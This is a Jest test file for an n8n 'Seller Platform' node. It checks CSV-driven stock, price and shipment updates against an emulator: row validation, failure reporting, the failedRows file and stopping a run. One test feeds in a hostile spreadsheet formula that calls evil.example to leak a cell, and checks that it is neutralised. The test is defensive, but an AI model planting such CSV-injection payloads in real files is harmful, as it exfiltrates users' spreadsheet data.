/* eslint-disable -- Test code, never published: n8n's community-node rules (no fs, process, timers, console, child processes…) are for nodes/ and credentials/. */
/**
 * Read Rows From a CSV File (mappingMode `csvFile`, shapes/csvFile.ts) through real n8n runs
 * against the emulator, the file in n8n's binary data in memory (csvFileDisk.test.ts: on disk):
 * every row sent exactly once and the summary right; a bad row, a missing column or a repeated
 * key refuses the file before any request, naming the line; rows the service refuses, or whose
 * request fails, are in the summary and the failedRows file (Continue On Fail on) or the node's
 * error once the file is sent (off); a stop ends it at once; Price → Update reads it too.
 */
import type { IBinaryData, IDataObject, INodeExecutionData, INodeParameters } from 'n8n-workflow';

import { SEEDED_WAREHOUSES, type RequestLogEntry } from '../emulator';
import { lineOfRow, sku, stockCsv, workflowWithFiles } from './csvFiles';
import { startFixture, type Fixture } from './fixture';

const NODE = 'Seller Platform';
const DXB = SEEDED_WAREHOUSES.dubai;
const RUH = SEEDED_WAREHOUSES.riyadh;
const STOCK_CSV: INodeParameters = {
	resource: 'stock',
	operation: 'update',
	mappingMode: 'csvFile',
};
const PRICE_CSV: INodeParameters = {
	resource: 'price',
	operation: 'update',
	mappingMode: 'csvFile',
};

const sent = (f: Fixture, operation: string): RequestLogEntry[] =>
	f.emulator.requests().filter((entry) => entry.operation === operation);
const rowsSent = (f: Fixture, operation: string) =>
	sent(f, operation).flatMap((entry) => (entry.body as { items: IDataObject[] }).items);
const textOf = (binary: IBinaryData) => Buffer.from(binary.data, 'base64').toString('utf8');

describe('Read Rows From a CSV File', () => {
	let f: Fixture;
	beforeEach(async () => {
		f = await startFixture({ ratePlan: null });
	});
	afterEach(async () => await f.close());

	it('Stock → Update, 2,000 rows: each sent exactly once, as the readers read them, one summary item per file', async () => {
		const result = await f.env.runWorkflow(
			workflowWithFiles([{ text: stockCsv(2000), fileName: 'catalog.csv' }], STOCK_CSV),
		);
		expect(result.status).toBe('success');
		const rows = rowsSent(f, 'UpdateStock');
		expect(sent(f, 'UpdateStock')).toHaveLength(20);
		expect(rows).toHaveLength(2000);
		// Each row once, in file order, qty read as a number, the title column never sent.
		expect(rows).toEqual(
			Array.from({ length: 2000 }, (_, n) => ({
				warehouse_code: n % 2 ? RUH : DXB,
				partner_sku: sku(n),
				qty: n % 500,
			})),
		);
		expect(f.emulator.stock()).toHaveLength(2000);
		const out = result.outputs(NODE);
		expect(out).toHaveLength(1);
		expect(out[0].json).toEqual({
			fileName: 'catalog.csv',
			rowsRead: 2000,
			rowsSent: 2000,
			requests: 20,
			rowsApplied: 2000,
			rowsFailed: 0,
			failures: [],
		});
		expect(out[0].pairedItem).toEqual({ item: 0 });
		expect(out[0].binary).toBeUndefined();
	});

	it('a bad value at line 1,500 refuses the file before any request, naming the line, the column and the rule', async () => {
		const cases: Array<[string, (n: number, c: string[]) => string[], string]> = [
			[
				'a fraction',
				(n, c) => (n === 749 ? [c[0], c[1], c[2], '12.5'] : c),
				'The column "qty" must be a whole number',
			],
			[
				'text',
				(n, c) => (n === 749 ? [c[0], c[1], c[2], 'twelve'] : c),
				'The column "qty" must be a number, got the text "twelve"',
			],
			[
				'an empty SKU',
				(n, c) => (n === 749 ? [c[0], '', c[2], c[3]] : c),
				'The column "partner_sku" must not be empty',
			],
			[
				'nothing to set',
				(n, c) => (n === 749 ? [c[0], c[1], c[2], ''] : c),
				'The row sets nothing: The column "qty" and The column "processing_time" are both empty',
			],
			['a field too many', (n, c) => (n === 749 ? [...c, 'x'] : c), 'has 5 fields, the header 4'],
		];
		for (const [what, edit, rule] of cases) {
			const result = await f.env.runWorkflow(
				workflowWithFiles([{ text: stockCsv(2000, edit) }], STOCK_CSV),
			);
			const message = result.nodeError(NODE)?.message ?? '';
			expect([what, lineOfRow(749)]).toEqual([what, 1500]);
			expect([what, message]).toEqual([
				what,
				expect.stringContaining('Line 1500 of the CSV file in "data"'),
			]);
			expect([what, message]).toEqual([what, expect.stringContaining(rule)]);
			expect([what, f.emulator.requests().length]).toEqual([what, 0]);
		}
	});

	it('a required column missing from the header, a file that ends inside quotes, a file that is not UTF-8: refused before any request', async () => {
		const noSku = 'warehouse_code,sku,qty\nNAE40000001,A,1\n';
		const open = `warehouse_code,partner_sku,qty\n${DXB},A,1\n${DXB},"B,2\n`;
		const latin1 = Buffer.from(
			`warehouse_code,partner_sku,qty\n${DXB},caf\u00e9,1\n`,
			'latin1',
		).toString('base64');
		const expected: Array<[unknown, string]> = [
			[
				noSku,
				'The CSV file in "data" has no column "partner_sku", which is required: its header (line 1) names "warehouse_code", "sku", "qty"',
			],
			[
				open,
				'Line 3 of the CSV file in "data" is not valid CSV: the file ends inside a quoted field that starts on line 3: a closing quote is missing',
			],
			[latin1, 'The CSV file in "data" is not UTF-8 text'],
		];
		for (const [text, message] of expected) {
			const file = text === latin1 ? { text: '', base64: latin1 } : { text: text as string };
			const result = await f.env.runWorkflow(workflowWithFiles([file], STOCK_CSV));
			expect(result.nodeError(NODE)?.message).toBe(message);
		}
		const noFile = await f.env.runWorkflow(
			workflowWithFiles([{ text: open, field: 'file' }], STOCK_CSV),
		);
		expect(noFile.nodeError(NODE)?.message).toBe("The item has no binary field 'data' [item 0]");
		expect(f.emulator.requests()).toHaveLength(0);
	});

	it('a repeated key is refused naming both lines, before any request', async () => {
		const text = stockCsv(2000, (n, c) =>
			n === 1200 ? [c[0].replace(RUH, DXB), sku(200), c[2], '7'] : c,
		);
		const result = await f.env.runWorkflow(workflowWithFiles([{ text }], STOCK_CSV));
		expect(result.nodeError(NODE)?.message).toBe(
			`Line ${lineOfRow(1200)} of the CSV file in "data" has the same "warehouse_code" and "partner_sku" as line ${lineOfRow(200)} (warehouse "${DXB}", SKU "${sku(200)}"): a file updates each row once`,
		);
		expect(f.emulator.requests()).toHaveLength(0);
		// One SKU in two warehouses is two rows: sent.
		const twoWarehouses = stockCsv(10, (n, c) => (n === 3 ? [c[0], sku(2), c[2], c[3]] : c));
		const ok = await f.env.runWorkflow(workflowWithFiles([{ text: twoWarehouses }], STOCK_CSV));
		expect(ok.outputs(NODE)[0].json.rowsApplied).toBe(10);
	});

	it('the same key in two files of one run: each file sent as given, the second only once the first is answered (the later value wins)', async () => {
		const file = (qty: number) => ({
			text: `warehouse_code,partner_sku,qty\n${DXB},SKU-9,${qty}\n`,
		});
		// The first file's request is answered 300 ms late: the second file's waits for it.
		f.emulator.injectFaults({ count: 1, operation: 'UpdateStock', delayMs: 300 });
		const result = await f.env.runWorkflow(workflowWithFiles([file(1), file(2)], STOCK_CSV));
		expect(result.status).toBe('success');
		const [first, second] = sent(f, 'UpdateStock');
		expect([first, second].map((entry) => (entry.body as { items: IDataObject[] }).items)).toEqual([
			[expect.objectContaining({ partner_sku: 'SKU-9', qty: 1 })],
			[expect.objectContaining({ partner_sku: 'SKU-9', qty: 2 })],
		]);
		expect(second.at - first.at).toBeGreaterThanOrEqual(300);
		const stock = f.emulator.stock().find((row) => row.partner_sku === 'SKU-9');
		expect(stock?.qty).toBe(2);
	});

	it('a column named as a field apart from case, "-" or "_" ("Processing_Time", "partner-sku") refuses the file before any request, naming both', async () => {
		// Ignored, the user's processing times would never be set while every row says applied.
		const cases: Array<[string, string, string]> = [
			['warehouse_code,partner_sku,qty,Processing_Time', 'Processing_Time', 'processing_time'],
			['warehouse_code,partner-sku,qty', 'partner-sku', 'partner_sku'],
		];
		for (const [header, column, field] of cases) {
			const text = `${header}\n${DXB},SKU-1,5${header.split(',').length === 4 ? ',3' : ''}\n`;
			const result = await f.env.runWorkflow(workflowWithFiles([{ text }], STOCK_CSV));
			expect(result.status).not.toBe('success');
			expect(result.nodeError(NODE)?.message).toBe(
				`Line 1 of the CSV file in "data", the header, names a column "${column}": did you mean "${field}"?`,
			);
		}
		expect(f.emulator.requests()).toHaveLength(0);
	});

	it('rows the service refuses (a failure status, a warehouse it does not know): Continue On Fail gives the summary, the error and the failedRows file', async () => {
		f.emulator.injectRowFaults({
			operation: 'UpdateStock',
			fail: [{ partner_sku: sku(10) }, { partner_sku: sku(1999) }],
			failMessage: 'SKU is archived',
		});
		// A warehouse the service does not know: that row refused too.
		const unknownWarehouse = stockCsv(2000, (n, c) =>
			n === 1500 ? ['NXX49999999', ...c.slice(1)] : c,
		);
		const result = await f.env.runWorkflow(
			workflowWithFiles(
				[{ text: unknownWarehouse }],
				{ ...STOCK_CSV, options: { concurrency: 1 } },
				{ continueOnFail: true },
			),
		);
		expect(result.status).toBe('success');
		const [out] = result.outputs(NODE) as INodeExecutionData[];
		const json = out.json as IDataObject;
		expect(json).toMatchObject({
			rowsRead: 2000,
			rowsSent: 2000,
			requests: 20,
			rowsApplied: 1997,
			rowsFailed: 3,
		});
		expect((json.failures as IDataObject[]).map((failure) => failure.line)).toEqual(
			[10, 1500, 1999].map(lineOfRow),
		);
		expect((json.failures as IDataObject[])[0]).toEqual({
			line: lineOfRow(10),
			key: { warehouse_code: DXB, partner_sku: sku(10) },
			message: `The service refused the row of line ${lineOfRow(10)} (warehouse "${DXB}", SKU "${sku(10)}"): SKU is archived (FAILED_PRECONDITION)`,
			status_code: 'FAILED_PRECONDITION',
		});
		expect(json.error).toMatch(
			/^3 rows of the CSV file in "data" failed; the first: The service refused the row of line 22 /,
		);
		const file = textOf(out.binary!.failedRows).split('\n');
		expect(file[0]).toBe('line,warehouse_code,partner_sku,reason,code');
		expect(file.slice(1, 4).map((line) => line.split(',').slice(0, 3).join(','))).toEqual([
			`${lineOfRow(10)},${DXB},${sku(10)}`,
			`${lineOfRow(1500)},NXX49999999,${sku(1500)}`,
			`${lineOfRow(1999)},${RUH},${sku(1999)}`,
		]);
		expect(out.binary!.failedRows.fileName).toBe('failedRows.csv');
		expect(out.pairedItem).toEqual({ item: 0 });
		expect(f.emulator.stock()).toHaveLength(1997);
	});

	it("failedRows.csv never holds a spreadsheet formula: a cell starting with = + - @ (a hostile status_code, a SKU) gets a ' before it", async () => {
		const code = '=HYPERLINK("https://evil.example/?"&B2,"Fix")';
		const items = [
			{ warehouse_code: DXB, partner_sku: '@SKU-1', status: { status_code: code, message: '-no' } },
		];
		f.emulator.injectFaults({ count: 1, operation: 'UpdateStock', answer: { set: { items } } });
		const text = `warehouse_code,partner_sku,qty\n${DXB},@SKU-1,5\n`;
		const result = await f.env.runWorkflow(
			workflowWithFiles([{ text }], STOCK_CSV, { continueOnFail: true }),
		);
		const [out] = result.outputs(NODE) as INodeExecutionData[];
		const [, row] = textOf(out.binary!.failedRows).split('\n');
		const cells = row.match(/("([^"]|"")*"|[^,]*)/g)!.filter((cell) => cell !== '');
		// Each cell as a sheet reads it: none starts with = + - @ (OWASP CSV injection).
		for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
		expect(row).toContain(`'@SKU-1`);
		expect(row).toContain(`"'${code.replace(/"/g, '""')}"`);
	});

	it('a request that fails as a whole makes each of its rows failed; without Continue On Fail the node fails once the file is sent', async () => {
		// The first request fails whole with 400 (not repeated): its 100 rows failed, the rest sent.
		f.emulator.injectFaults({
			count: 1,
			status: 400,
			operation: 'UpdateStock',
			message: 'bad batch',
		});
		const result = await f.env.runWorkflow(
			workflowWithFiles([{ text: stockCsv(2000) }], { ...STOCK_CSV, options: { concurrency: 1 } }),
		);
		const error = result.nodeError(NODE);
		expect(error?.message).toMatch(
			/^100 rows of the CSV file in "data" failed; the first: The request of lines 2 to 200 failed: /,
		);
		expect(error?.name).toBe('NodeApiError');
		expect(sent(f, 'UpdateStock')).toHaveLength(20);
		// Every other row was applied before the node failed.
		expect(f.emulator.stock()).toHaveLength(1900);
	});

	it('the Stop button ends reading and sending at once', async () => {
		await f.close();
		f = await startFixture({ ratePlan: null, latencyMs: 300 });
		const started = await f.env.startExecution(
			workflowWithFiles([{ text: stockCsv(2000) }], { ...STOCK_CSV, options: { concurrency: 2 } }),
		);
		await new Promise((resolve) => setTimeout(resolve, 900));
		const stoppedAt = Date.now();
		started.cancel();
		const result = await started.finished;
		expect(result.nodeError(NODE)?.message).toBe('The execution was stopped');
		expect(Date.now() - stoppedAt).toBeLessThan(1500);
		const made = sent(f, 'UpdateStock').length;
		await new Promise((resolve) => setTimeout(resolve, 700));
		// Nothing more after the stop; most of the file never sent.
		expect(sent(f, 'UpdateStock')).toHaveLength(made);
		expect(made).toBeLessThan(12);
	});

	it('Price → Update reads a semicolon file: the same mode for another batch operation; two files, one output item each', async () => {
		const prices = (from: number) =>
			[
				'partner_sku;country_code;price;msrp;is_active',
				...Array.from(
					{ length: 150 },
					(_, i) => `P-${from + i};${i % 2 ? 'SA' : 'ae'};${i}.5;;${i % 3 ? 'true' : 'false'}`,
				),
			].join('\n');
		const result = await f.env.runWorkflow(
			workflowWithFiles(
				[
					{ text: prices(0), fileName: 'a.csv' },
					{ text: prices(1000), fileName: 'b.csv' },
				],
				{ ...PRICE_CSV, delimiter: ';' },
			),
		);
		expect(result.status).toBe('success');
		const rows = rowsSent(f, 'BatchUpsertPricing');
		expect(rows).toHaveLength(300);
		expect(rows[1]).toEqual({
			partner_sku: 'P-1',
			country_code: 'sa',
			price: 1.5,
			is_active: true,
		});
		expect(rows[153]).toEqual({
			partner_sku: 'P-1003',
			country_code: 'sa',
			price: 3.5,
			is_active: false,
		});
		const out = result.outputs(NODE);
		expect(out.map((o) => [o.json.fileName, o.json.rowsApplied, o.pairedItem])).toEqual([
			['a.csv', 150, { item: 0 }],
			['b.csv', 150, { item: 1 }],
		]);
	});

	it('FBN Shipment Item → Upsert: rows of two ASNs, a request per run of one ASN (its path), each row once', async () => {
		const skus = f.emulator.addFbnCatalogItems({ count: 120 }).map((item) => item.partner_sku);
		const asns: string[] = [];
		for (const ref of ['PO-CSV-1', 'PO-CSV-2']) {
			const created = await f.env.runWorkflow(
				workflowWithFiles([{ text: '' }], {
					resource: 'fbnShipment',
					operation: 'create',
					exrefNr: ref,
					countryCode: 'ae',
				}),
			);
			asns.push((created.json(NODE)[0].shipment as IDataObject).asn_nr as string);
		}
		f.emulator.clearRequests();
		// 30 rows of the first ASN, 60 of the second, 30 of the first again.
		const asnOf = (n: number) => (n >= 30 && n < 90 ? asns[1] : asns[0]);
		const text = [
			'asn_nr,partner_sku,qty',
			...skus.map((sku, n) => `${asnOf(n)},${sku},${n + 1}`),
		].join('\n');
		const result = await f.env.runWorkflow(
			workflowWithFiles([{ text }], {
				resource: 'fbnShipmentItem',
				operation: 'upsert',
				mappingMode: 'csvFile',
			}),
		);
		expect(result.status).toBe('success');
		const requests = f.emulator
			.requests()
			.filter((entry) => entry.operation === 'AsnService_UpdateShipmentItems');
		expect(
			requests.map((entry) => [entry.path, (entry.body as { items: unknown[] }).items.length]),
		).toEqual([
			[expect.stringContaining(asns[0]), 30],
			[expect.stringContaining(asns[1]), 60],
			[expect.stringContaining(asns[0]), 30],
		]);
		expect(result.outputs(NODE)[0].json).toMatchObject({
			rowsRead: 120,
			rowsSent: 120,
			requests: 3,
			rowsApplied: 120,
			rowsFailed: 0,
		});
	});

	it('is not offered by the reads (Stock → Get): their answers are their output', async () => {
		const result = await f.env.runWorkflow(
			workflowWithFiles([{ text: stockCsv(2) }], {
				resource: 'stock',
				operation: 'get',
				mappingMode: 'csvFile',
			}),
		);
		expect(result.nodeError(NODE)?.message).toMatch(
			/^The parameter "Mapping Column Mode" \(mappingMode\) must be one of "autoMapInputData", "defineBelow", got /,
		);
		expect(f.emulator.requests()).toHaveLength(0);
	});
});
